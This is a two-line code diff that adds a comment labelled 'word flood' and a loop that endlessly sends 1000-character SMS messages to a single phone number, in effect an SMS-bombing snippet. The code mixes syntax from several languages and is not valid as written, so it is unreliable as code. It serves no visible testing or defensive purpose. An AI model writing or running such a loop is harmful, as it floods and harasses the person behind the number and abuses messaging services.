@@ -1,0 +1,2 @@
+// word flood
+while (true) { sms to: '+13055550123', message: 'x' * 1000 }
